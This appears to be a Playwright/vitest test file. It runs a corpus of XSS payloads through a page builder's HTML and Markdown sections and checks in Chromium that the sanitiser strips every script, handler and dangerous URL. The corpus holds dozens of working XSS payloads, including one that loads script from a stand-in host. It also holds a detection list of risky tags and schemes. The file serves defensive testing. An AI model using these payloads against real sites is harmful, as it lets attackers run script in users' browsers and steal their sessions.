// User HTML and Markdown on a landing page: an XSS corpus goes through both kinds of section and
// the rendered page is loaded into real Chromium WITHOUT the page's CSP (so the sanitiser alone
// is tested): no payload runs (no dialog, no marker set), and the DOM Chromium builds from the
// sections has no script, SVG, frame, style element or attribute, event handler, or
// javascript:/data:/vbscript: URL.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser } from './e2e/harness';
import { makeApp } from './helpers';
import { get, mkPage, setup } from './pages-helpers';

const RUN = 'window.__xss=(window.__xss||0)+1';

// Each runs RUN (or alert) if it survives.
const CORPUS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" OnErRoR=alert(1)>`,
  `<body onload=alert(1)>`,
  `<p onmouseover="${RUN}" onclick=alert(1)>hover</p>`,
  `<a href="javascript:${RUN}">js link</a>`,
  `<a href="JaVaScRiPt:alert(1)">mixed case</a>`,
  `<a href="  javascript:alert(1)">leading space</a>`,
  `<a href="java&#x09;script:alert(1)">tab entity</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<div style="background:url(javascript:alert(1))">css url</div>`,
  `<div style="width: expression(alert(1))">css expression</div>`,
  `<style>@import 'javascript:alert(1)'; body{background:url("javascript:alert(1)")}</style>`,
  `<img src="x" alt='x" onerror="${RUN}'>`,
  `<img alt="x"" onerror="${RUN}" src=y>`,
  `<a title='"><script>${RUN}</script>' href="https://ok.example">quote breakout</a>`,
  `<a href="https://ok.example" title="&quot; onmouseover=&quot;alert(1)">entity breakout</a>`,
  `<form action="javascript:alert(1)"><button>go</button></form><input onfocus=alert(1) autofocus>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<link rel="stylesheet" href="javascript:alert(1)">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<a href="https://ok.example" target="_blank" id="__proto__" name="location">clobber</a>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
];

// Markdown's own ways to make links and images.
const MARKDOWN_ONLY = [
  `[md link](javascript:${RUN})`,
  `[md link](JAVASCRIPT:alert(1))`,
  `[md link](&#x6A;avascript:alert(1))`,
  `[md link](<javascript:alert(1)>)`,
  `![md image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![md image](x" onerror="alert(1))`,
  `[ref link][r]\n\n[r]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `[x](https://ok.example "title\\" onmouseover=\\"alert(1)")`,
  '```html\n<script>alert(1)</script>\n```',
];

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

async function checkInChromium(html: string) {
  const context = await browser.newContext({ javaScriptEnabled: true });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  // Nothing leaves the machine: the tag and every URL a payload names are refused.
  await page.route('**/*', (route) => route.abort());
  await page.setContent(html, { waitUntil: 'load' });
  // Hover, focus and click everything a payload could hang on, then give timers a moment.
  for (const el of await page.$$('main *')) {
    await el.hover({ timeout: 200, force: true }).catch(() => {});
  }
  await page.waitForTimeout(300);
  const found = await page.evaluate(() => {
    const out: string[] = [];
    const main = document.querySelector('main')!;
    for (const el of main.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'style', 'svg', 'math', 'iframe', 'object', 'embed', 'link', 'meta', 'base', 'template', 'noscript'].includes(tag)) out.push(`element <${tag}>`);
      if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') out.push(`foreign element ${tag}`);
      // The page's own forms (the form sections) are not in the sections tested here.
      if (tag === 'form' || tag === 'input' || tag === 'button') out.push(`form control <${tag}>`);
      for (const a of el.attributes) {
        const name = a.name.toLowerCase();
        if (name.startsWith('on')) out.push(`handler ${name} on <${tag}>`);
        if (name === 'style' || name === 'srcdoc' || name === 'id' || name === 'name') out.push(`attribute ${name} on <${tag}>`);
        if (['href', 'src', 'action', 'data', 'xlink:href', 'formaction'].includes(name)) {
          const v = a.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
          if (/^(javascript|data|vbscript):/.test(v) || !/^(https?:|mailto:|tel:|\/|#|[^:]*$)/.test(v)) out.push(`url ${name}=${a.value} on <${tag}>`);
        }
      }
    }
    return { out, xss: (window as unknown as { __xss?: number }).__xss ?? 0, scripts: document.scripts.length };
  });
  await context.close();
  return { ...found, dialogs };
}

describe('an XSS corpus through Markdown and HTML sections', () => {
  it('none survives: nothing runs in Chromium, and no dangerous element, attribute or URL is left', async () => {
    const t = await makeApp();
    const { site } = await setup(t);
    const sections = [
      ...CORPUS.map((html) => ({ type: 'html', html })),
      ...[...CORPUS, ...MARKDOWN_ONLY].map((markdown) => ({ type: 'markdown', markdown })),
    ];
    await mkPage(t, { site_id: site.id, slug: 'xss', sections: sections.slice(0, 50) }, true);
    await mkPage(t, { site_id: site.id, slug: 'xss-2', sections: sections.slice(50) }, true);
    for (const slug of ['xss', 'xss-2']) {
      const res = await get(t, `/p/${slug}`);
      expect(res.status).toBe(200);
      // Only the tag's script tag, in the head; the main holds the sections.
      expect(res.text.match(/<script/gi)).toHaveLength(1);
      const r = await checkInChromium(res.text);
      expect(r.out).toEqual([]);
      expect(r.dialogs).toEqual([]);
      expect(r.xss).toBe(0);
      expect(r.scripts).toBe(1);
    }
    // What should stay, stays: safe links, text, the target rewritten to be safe.
    const html = (await get(t, '/p/xss')).text;
    expect(html).toContain('<a href="https://ok.example" target="_blank" rel="noopener noreferrer">clobber</a>');
    expect(html).toContain('css expression');
    expect(html).toContain('quote breakout');
  }, 60_000);
});
